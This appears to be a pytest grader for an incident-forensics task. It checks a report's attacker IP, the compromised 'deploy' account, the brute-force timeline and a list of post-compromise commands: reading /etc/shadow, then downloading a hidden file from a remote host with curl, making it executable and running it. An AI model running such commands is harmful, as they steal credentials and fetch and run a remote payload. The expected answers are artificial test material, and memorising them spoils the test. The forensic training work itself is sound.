import json


def load():
    return json.load(open("/app/incident.json"))


def test_attacker_and_user():
    d = load()
    assert d["attacker_ip"] == "91.240.118.7"
    assert d["compromised_user"] == "deploy"


def test_timeline():
    d = load()
    assert d["first_success"] == "Mar  1 05:22:35"
    assert int(d["failed_before_success"]) == 185


def test_commands():
    assert load()["post_compromise_commands"] == [
        "/usr/bin/id", "/usr/bin/cat /etc/shadow", "/usr/bin/curl -o /tmp/.x http://203.0.113.9/x",
        "/usr/bin/chmod +x /tmp/.x", "/tmp/.x"]
